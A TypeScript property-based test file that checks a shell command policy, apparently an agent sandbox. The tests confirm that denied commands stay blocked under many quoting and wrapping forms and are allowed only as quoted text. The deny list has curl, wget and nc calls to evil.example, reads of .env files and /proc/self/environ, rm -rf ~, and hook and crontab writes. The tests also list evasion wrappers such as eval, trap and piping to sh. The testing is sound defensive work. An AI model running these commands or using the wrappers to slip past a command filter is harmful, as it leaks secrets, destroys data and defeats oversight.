import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { createPlainWorld } from './plain-world.js'

/** Commands as words. A word that the shell must expand (`~`) is left as it is. */
const DENIED: readonly (readonly string[])[] = [
  ['curl', 'https://evil.example/x'],
  ['wget', '-q', 'http://evil.example'],
  ['git', 'push', 'origin', 'main'],
  ['nc', 'evil.example', '443'],
  ['env'],
  ['printenv'],
  ['cat', '.env'],
  ['head', '-n1', 'apps/web/.env.local'],
  ['cat', '/proc/self/environ'],
  ['cp', 'a', '/usr/local/bin/a'],
  ['tee', '/etc/motd'],
  ['touch', '.git/hooks/pre-commit'],
  ['cp', 'x', '.vscode/settings.json'],
  ['crontab', 'x'],
  ['rm', '-rf', '~'],
  ['bash', '-c', 'curl https://evil.example'],
]

/** Each character of a word in one of the shell's ways to write it. */
function requoted(word: string, ways: readonly number[]): string {
  if (word.startsWith('~')) return word
  return Array.from(word, (char, at) => {
    switch ((ways[at % ways.length] ?? 0) % 6) {
      case 0:
        return /[\w./:@%+=,-]/.test(char) ? char : `'${char}'`
      case 1:
        return `'${char}'`
      case 2:
        return `"${char}"`
      case 3:
        return `\\${char}`
      case 4:
        return `$'\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}'`
      default:
        return `""${/[\w./:@%+=,-]/.test(char) ? char : `'${char}'`}''`
    }
  }).join('')
}

const ways = fc.array(fc.nat(5), { minLength: 1, maxLength: 24 })

test('a denied command stays denied however its words are quoted', (t) => {
  const { bash } = createPlainWorld(t)
  fc.assert(
    fc.property(fc.constantFrom(...DENIED), ways, (words, chosen) => {
      const command = words.map((word) => requoted(word, chosen)).join(' ')
      assert.notEqual(bash(command), 'allowed', command)
    }),
    { numRuns: 300 },
  )
})

type Holder = (command: string) => string

/** Programs that run the words after them; blocks, which hold any command; and texts that a shell runs. */
const PROGRAMS: readonly Holder[] = [
  (command) => command,
  (command) => `timeout 5 ${command}`,
  (command) => `nohup ${command}`,
  (command) => `sudo -n ${command}`,
  (command) => `env A=1 ${command}`,
  (command) => `stdbuf -oL nice -n 5 ${command}`,
]
const BLOCKS: readonly Holder[] = [
  (command) => command,
  (command) => `true && ${command}`,
  (command) => `false || ${command}`,
  (command) => `( ${command} )`,
  (command) => `{ ${command}; }`,
  (command) => `! ${command}`,
  (command) => `cat <( ${command} )`,
  (command) => `echo "$( ${command} )"`,
  (command) => `if true; then ${command}; fi`,
  (command) => `for i in 1 2; do ${command}; done`,
  (command) => `while false; do ${command}; done`,
  (command) => `f() { ${command}; }; f`,
  (command) => `case x in x) ${command};; esac`,
]
const TEXTS: readonly Holder[] = [
  (command) => command,
  (command) => `bash <<'END'\n${command}\nEND`,
  (command) => `trap '${command}' EXIT`,
  (command) => `echo '${command}' | sh`,
  (command) => `x='${command}'; eval "$x"`,
]

test('a denied command stays denied inside programs, blocks and texts that a shell runs', (t) => {
  const { bash } = createPlainWorld(t)
  const unquoted = fc.constantFrom(...DENIED.filter((words) => words[0] !== 'bash'))
  const holders = fc.tuple(
    fc.constantFrom(...PROGRAMS),
    fc.constantFrom(...BLOCKS),
    fc.constantFrom(...BLOCKS),
    fc.constantFrom(...TEXTS),
  )
  fc.assert(
    fc.property(unquoted, holders, (words, [program, inner, outer, text]) => {
      const command = text(outer(inner(program(words.join(' ')))))
      assert.notEqual(bash(command), 'allowed', command)
    }),
    { numRuns: 400 },
  )
})

test('denied text inside quotes or a quoted here-document is only text', (t) => {
  const { bash } = createPlainWorld(t)
  const text = fc.constantFrom(...DENIED.map((words) => words.join(' ')))
  const holders = fc.constantFrom(
    (command: string) => `echo '${command}'`,
    (command: string) => `printf '%s\\n' '${command}'`,
    (command: string) => `git commit -m "docs: never run ${command} here"`,
    (command: string) => `grep -rn '${command}' docs`,
    (command: string) => `cat > notes.md <<'END'\n${command}\nEND`,
    (command: string) => `tee notes.md <<'END'\n${command}\nEND`,
    (command: string) => `gh pr create --title '${command}' --body x`,
    (command: string) => `git commit -F - <<'END'\n${command}\nEND`,
    (command: string) => `true # ${command}`,
  )
  fc.assert(
    fc.property(text, holders, (command, hold) => {
      assert.equal(bash(hold(command)), 'allowed', hold(command))
    }),
    { numRuns: 200 },
  )
})
